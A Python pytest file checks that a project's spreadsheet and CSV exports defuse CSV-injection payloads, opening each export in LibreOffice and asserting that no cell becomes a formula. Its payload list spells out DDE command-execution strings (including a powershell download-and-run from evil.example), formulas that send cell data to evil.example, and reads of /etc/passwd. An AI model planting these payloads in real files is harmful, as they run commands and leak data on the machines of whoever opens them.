"""No cell of an export is ever a formula: 27 known payloads, opened in LibreOffice itself."""

import io
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest

from stakeholder_map.exports.separated import csv_archive, csv_text, harmless
from stakeholder_map.exports.sheets import TextSheet
from stakeholder_map.exports.workbook import workbook
from tests.conftest import not_run

#: From the OWASP page on CSV injection and public collections of payloads.
PAYLOADS = (
    "=1+1",
    '=1+1";=1+1',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=2+5+cmd|' /C notepad'!A1",
    "=cmd|' /C powershell IEX(wget evil.example/x)'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    '=HYPERLINK("http://evil.example?leak="&A1,"Error: please click")',
    '=WEBSERVICE(CONCATENATE("http://evil.example/?x=",A1))',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a/a10")',
    '=IMPORTFEED("http://evil.example")',
    '=IMPORTHTML("http://evil.example","table",1)',
    '=IMPORTRANGE("evil","A1")',
    '=IMAGE("https://evil.example/x.png")',
    "='file:///etc/passwd'#$passwd.A1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=WEBSERVICE(CONCATENATE(\"http://evil.example/\",('file:///etc/passwd'#$passwd.A1)))",
    '=IF(1=1,"yes","no")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "%0A-3+3+cmd|' /C calc'!D2",
)

SHEETS = (
    TextSheet("people", "People", ("Name", "Notes"), tuple((text, text) for text in PAYLOADS)),
)


def opened_in_libreoffice(tmp_path: Path, name: str, data: bytes) -> openpyxl.Workbook:
    """Return the file as LibreOffice understood it when it opened it."""
    office = shutil.which("soffice")
    if office is None:
        pytest.skip(not_run("LibreOffice"))
    (tmp_path / name).write_bytes(data)
    out = tmp_path / "out"
    subprocess.run(
        [
            *(office, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile"),
            *("--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1",)
            * name.endswith(".csv"),
            *("--convert-to", "xlsx", "--outdir", str(out), str(tmp_path / name)),
        ],
        check=True, capture_output=True, timeout=170,
    )  # fmt: skip
    [made] = out.glob("*.xlsx")
    return openpyxl.load_workbook(made)


def formulas(book: openpyxl.Workbook) -> list[str]:
    return [
        str(cell.value)
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_there_are_27_payloads() -> None:
    assert len(set(PAYLOADS)) == 27


def test_a_workbook_holds_the_payloads_as_texts() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(workbook(SHEETS)))["People"]
    assert formulas(sheet.parent) == []
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * 27
    assert all(cell.quotePrefix for cell in cells if cell.value[0] in "=+-@"), "edited, too"


def test_libreoffice_evaluates_nothing_of_the_workbook(tmp_path: Path) -> None:
    book = opened_in_libreoffice(tmp_path, "a.xlsx", workbook(SHEETS))
    assert formulas(book) == []
    shown = [str(row[0].value).strip() for row in book["People"].iter_rows(min_row=2)]
    assert shown == [text.strip() for text in PAYLOADS]


def test_libreoffice_evaluates_nothing_of_the_csv(tmp_path: Path) -> None:
    with zipfile.ZipFile(io.BytesIO(csv_archive(SHEETS))) as archive:
        assert archive.namelist() == ["people.csv"]
        data = archive.read("people.csv")
    book = opened_in_libreoffice(tmp_path, "a.csv", data)
    assert formulas(book) == []
    assert len(list(book.worksheets[0].iter_rows())) == 28


def test_chinese_opens_rightly_in_libreoffice(tmp_path: Path) -> None:
    rows = (("王小明（采购部）", "疑虑点"), ("Ærøskøbing", "한국어"))
    data = csv_text(rows).encode("utf-8-sig")
    assert data.startswith(b"\xef\xbb\xbf"), "Excel and WPS know UTF-8 by this mark"
    book = opened_in_libreoffice(tmp_path, "a.csv", data)
    assert [tuple(cell.value for cell in row) for row in book.worksheets[0].iter_rows()] == [*rows]


@pytest.mark.parametrize("number", ["-3", "+2", "-0.5", "+25%", "0", "2026-11-22"])
def test_a_number_stays_a_number(number: str) -> None:
    assert harmless(number) == number


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_of_a_csv_starts_with_an_apostrophe(payload: str) -> None:
    assert harmless(payload).startswith("'")
